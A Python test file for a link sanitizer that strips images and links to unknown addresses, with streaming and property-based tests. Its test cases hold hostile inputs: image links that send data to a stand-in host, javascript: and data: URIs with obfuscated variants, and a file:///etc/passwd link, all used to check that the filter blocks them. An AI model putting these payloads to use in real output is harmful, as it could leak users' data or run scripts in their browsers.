"""Removing images and unknown links."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from domain.text.hyperlinks import REMOVED, LinkStream, strip_links

TEXTS = [
    "See https://intranet.example/a_(b) and [terms](https://good.example/doc), or /local/path.",
    "Mail help@good.example or open good.example/doc.",
    "Counted at http://evil.example/p.png?d= with the reader's words.",
]


@pytest.mark.parametrize(
    ("written", "passed_on"),
    [
        ("Plain words, with http and www and data! Yes! [1] ok.", None),
        ("A [form](https://good.example/doc) [1], https://intranet.example/a_(b). [Here](/local/path).", None),
        ("Use vec![1] in Rust.", None),
        ("![x](http://evil.example/p.png?d=SECRET) after", "[x] after"),
        ("![x](http://evil.example/p.png?d=) after", "[x](http://evil.example/p.png?d=) after"),
        ("[1](http://evil.example) and [a]( <https://evil.example/x> \"t\").", "[1] and [a]."),
        ("Go to https://evil.example/x, now.", f"Go to {REMOVED}, now."),
        ("HTTPS://EVIL.EXAMPLE/ or www.evil.example", f"{REMOVED} or {REMOVED}"),
        ("<img src=//evil.example/a.png>", f"<img src={REMOVED}>"),
        ("[r]: http://evil.example/x\n![z][r]", f"[r]: {REMOVED}\n[z][r]"),
        ("[run](javascript:alert(1)) [out](/api/logout)", "[run] [out]"),
        ("See evil.example/leak?d=1, or 203.0.113.7/x.", f"See evil{REMOVED}, or 203{REMOVED}."),
        ("//evil.example/x mailto:eve@evil.example", f"{REMOVED} mailto{REMOVED}"),
        ("Write to eve@evil.example.", f"Write to eve{REMOVED}."),
        ("[r]: javascript:alert", f"[r]: {REMOVED}"),
        ("gopher://evil.example", f"gopher{REMOVED}"),
        ("<http:/evil.example/x> http:\\\\evil.example", f"<http{REMOVED}> http{REMOVED}"),
        ("<https:localhost/x> <ftp:/host/x> ws:\\\\host", f"<https{REMOVED}> <ftp{REMOVED}> ws{REMOVED}"),
        ("[r]: https:localhost/x\n[s]: /\\host/x 't'", f"[r]: {REMOVED}\n[s]: {REMOVED} 't'"),
        ("[r]: https:&bsol;&bsol;host\n[s]: <java&Tab;script:x>", f"[r]: {REMOVED}\n[s]: {REMOVED}"),
        ("[r]: ht&NewLine;tp:host\n[s]:\n\\\\\\\\host/x", f"[r]: {REMOVED}\n[s]:\n{REMOVED}"),
        ("[a](https:host/x\n't') [b](\\\\host/((x)))", f"[a]({REMOVED}\n't') [b]({REMOVED}"),
        (f"[r]: {'&Tab;' * 99}https:host", f"[r]: {REMOVED}"),
        ("[1]: The handbook says x[2]: 12:30, {a[3]: b:c} and [Note]: see page 3.", None),
        ("[r]: https://good.example/doc 't'\n[s]: x", "[r] : https://good.example/doc 't'\n[s]: x"),
        ("see![x](https://good.example/doc) and [y](/local/path)", "see![x] and [y]"),
        ("see![x]\n \n[y](/local/path) vec![1], 2", None),
        ("„https://good.example/doc“, https://good.example/doc。 https://good.example/doc…", None),
        ("https://good.example/doc。然后", "https://good.example/doc 。然后"),
        ("„https://evil.example“ dort, https://evil.example/x。然后", f"„{REMOVED}“ dort, {REMOVED}。然后"),
        ("https://good.example/doc“?d=1。evil.example/x", f"https://good.example/doc “?d=1。evil{REMOVED}"),
        ("Write to help@good.example, or good.example/doc.", None),
        ("Node.js and 10.0.0.0/8 in config.yml, v1.2.3, e.g. and/or 3.5/4; a//b // c note:this 12:30.", None),
    ],
)  # fmt: skip
def test_only_addresses_of_the_texts_pass_and_images_never(written: str, passed_on: str | None) -> None:
    assert strip_links(written, TEXTS) == (written if passed_on is None else passed_on)


@pytest.mark.parametrize(
    ("written", "passed_on"),
    [
        ("[a](https://good.example) [b](HTTP://good.example) [c](mailto:a@good.example) [d](/x?y=a:b) [e](#a)", None),
        ('[a](/x "see: this") [b](<https://good.example> "x: y")', None),
        ("Set redis://good.example:6379/0 and s3://bucket/x; good.example:80/x.", None),
        ("[run](javascript:alert(1)) it", "[run] it"),
        ("[run](JavaScript:alert(1)) [run]( <javascript:alert(1)> 't') it", "[run] [run] it"),
        ("[run](java\tscript:alert(1)) [run](&#106;avascript&colon;alert(1)) it", "[run] [run] it"),
        ("[run](\njavascript:alert(1)) [run](javascript\\:alert(1)) it", "[run] [run] it"),
        ("[read](file:///etc/passwd) [open](vscode://x) [open](data:text/html,x)", "[read] [open] [open]"),
        ("<javascript:alert> <vscode://x>", f"<javascript{REMOVED}> <vscode{REMOVED}>"),
        ("[r]: javascript:alert\n[s]: data:text/html;base64,eA", f"[r]: {REMOVED}\n[s]: {REMOVED}"),
        ('<a href="javascript:alert">', f'<a href="javascript{REMOVED}">'),
    ],
)
def test_a_scheme_that_is_not_known_passes_in_no_link_even_where_the_texts_have_it(
    written: str, passed_on: str | None
) -> None:
    assert strip_links(written, [written]) == (written if passed_on is None else passed_on)


PIECES = st.sampled_from(
    [
        *'![]() a\n"=1',
        ".b",
        "@",
        "mailto:",
        "9.9.9.9",
        "http",
        "s",
        "://",
        "evil.example",
        "/x",
        "www.",
        "//",
        "]: ",
        "](",
        "\\",
        "<",
    ]
)


@given(st.lists(PIECES, max_size=25), st.lists(st.integers(1, 4), min_size=25, max_size=25))
def test_the_output_does_not_depend_on_how_the_input_is_cut(pieces: list[str], lengths: list[int]) -> None:
    text = "".join(pieces)
    links, out, start = LinkStream(TEXTS), "", 0
    for length in lengths * 5:
        out += links.feed(text[start : start + length])
        start += length
    assert out + links.finish() == strip_links(text, TEXTS)


@given(st.lists(PIECES, max_size=25))
def test_nothing_that_is_left_can_be_loaded_or_followed(pieces: list[str]) -> None:
    out = strip_links("".join(pieces), [])
    assert not re.search(r"(?<!\w)!\[|(?<![a-z])(?:https?://|www\.)\w", out)


def test_no_number_of_marks_makes_an_image() -> None:
    for marks in (2, 5, 1999, 2001, 30_000):
        links = LinkStream([])
        out = "".join(links.feed(piece) for piece in ("Wow ", "!" * marks, "[x]", "(https://evil.example/y)"))
        assert not re.search(r"(?<!\w)!\[", out + links.finish())
    assert strip_links("a!![x] b![y] !!![z] really!!!", []) == "a![x] b![y] [z] really!!!"
    assert strip_links("long " * 1000 + "end!", []).endswith("long end!")


def test_plain_words_are_not_held_back() -> None:
    links = LinkStream([])
    assert [links.feed(word) for word in ("The", " answer", " is", " plain")] == ["The", " answer", " is", " plain"]


def test_it_is_known_whether_a_link_was_removed() -> None:
    links = LinkStream([])
    assert links.removed is False
    links.feed("plain text ")
    assert links.removed is False
    links.feed("https://evil.example/x ")
    links.finish()
    assert links.removed is True
